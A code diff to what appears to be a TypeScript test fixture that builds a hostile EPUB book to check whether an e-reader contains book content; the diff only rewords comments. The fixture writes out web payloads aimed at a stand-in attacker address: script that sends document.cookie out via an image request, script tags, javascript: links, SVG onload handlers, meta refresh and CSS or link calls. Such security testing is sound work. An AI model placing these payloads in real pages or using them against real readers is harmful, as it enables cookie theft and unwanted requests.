@@ -1,7 +1,7 @@
 import { buildEpub, navigation } from '../fixtures/epub.ts'
 import { putBook } from './bookshelf.ts'
 
-/** What a script of the book does once it runs: takes what it can reach, leaves a mark, calls out and leads away. */
+/** What a script of the book does once it runs: reads data, leaves a mark, sends a request and navigates away. */
 function loot(evil: string, way: string): string {
   return [
     `new Image().src='${evil}/ran-${way}?'+encodeURIComponent(document.cookie)`,
@@ -11,7 +11,7 @@ function loot(evil: string, way: string): string {
   ].join(';')
 }
 
-/** Ways to run something without anybody's help. Each is well-formed, so that all stand in one document. */
+/** Ways to run a script without interaction. Each is well-formed, so that all fit in one document. */
 function thatRun(evil: string): readonly string[] {
   const run = (way: string) => loot(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
   const inside = (way: string) => `&lt;script&gt;${run(way)}&lt;/script&gt;`
@@ -35,7 +35,7 @@ function thatRun(evil: string): readonly string[] {
   ]
 }
 
-/** Ways to call out without running anything. */
+/** Ways to send requests without scripts. */
 function thatCallOut(evil: string): readonly string[] {
   return [
     `<img src="${evil}/img" alt=""/>`,
@@ -58,7 +58,7 @@ function thatCallOut(evil: string): readonly string[] {
   ]
 }
 
-/** What stands in the head. The way to another site comes last, once all others were tried. */
+/** Content of the head. Navigation to another site comes last, after all other attempts. */
 function head(evil: string): string {
   return `<base href="${evil}/base/"/>
 <link rel="stylesheet" href="${evil}/link.css"/><link rel="icon" href="${evil}/icon"/>
@@ -70,7 +70,7 @@ h1 { background: url(${evil}/style) } h1::before { content: url(${evil}/content)
 <meta http-equiv="refresh" content="1;url=${evil}/refresh"/>`
 }
 
-/** What waits for somebody to press it. */
+/** Content that needs a click. */
 function thatWait(evil: string): string {
   const run = (way: string) => loot(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
   return `<div style="text-align: center"><p><a href="javascript:${run('link')}">Press me</a></p>
@@ -93,14 +93,14 @@ ${traps}
 }
 
 /**
- * A document that tries to run, to reach what lies around it and to call out, in every way that a browser knows.
+ * A document that tries to run scripts, reach its surroundings and send requests in every way a browser supports.
  * @param evil address of the site that it calls
  */
 export function hostileDocument(evil: string): string {
   return document(evil, 'Flows')
 }
 
-/** A book that holds nothing else: as text that flows, as a finished page, as a drawing. */
+/** A book of nothing else: as reflowable text, as fixed layout, and as SVG. */
 export function putHostileBook(shelf: string, evil: string): void {
   const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${loot(evil, 'drawing').replaceAll('&', '&amp;')}">
 <script>${loot(evil, 'drawing-script').replaceAll('&', '&amp;')}</script><image href="${evil}/drawing" width="9" height="9"/></svg>`
